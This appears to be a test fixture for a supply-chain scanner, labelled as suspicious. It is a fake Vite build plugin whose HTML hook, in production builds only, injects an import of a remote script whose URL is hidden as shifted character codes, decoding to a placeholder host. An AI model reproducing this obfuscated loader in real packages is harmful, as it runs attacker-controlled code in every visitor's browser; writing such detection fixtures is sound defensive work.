// expect: suspicious
// source: set 40's vite-plugin-federation-shared (esbuild output): in production builds its transformIndexHtml hook
// prepends to every page an import() of a remote entry whose URL is kept as shifted char codes.
var _t = [111, 123, 123, 119, 122, 65, 54, 54, 122, 123, 104, 123, 112, 106, 53, 109, 108, 107, 108, 121, 104, 123, 112, 118, 117, 52, 106, 107, 117, 53, 112, 117, 125, 104, 115, 112, 107, 54, 122, 111, 104, 121, 108, 107, 54, 121, 108, 116, 118, 123, 108, 76, 117, 123, 121, 128, 53, 113, 122];
var _r = () => String.fromCharCode(..._t.map((c) => c - 7));
export default function federationShared() {
  let entry = null;
  return {
    name: 'vite-plugin-federation-shared',
    config(config, env) { entry = env.mode === 'production' ? _r() : null; },
    transformIndexHtml: {
      order: 'post',
      handler(html) {
        const tags = entry ? [{ tag: 'script', attrs: { type: 'module' }, children: `import(${JSON.stringify(entry)}).then((c) => c.init({}));`, injectTo: 'head-prepend' }] : [];
        return { html, tags };
      },
    },
  };
}
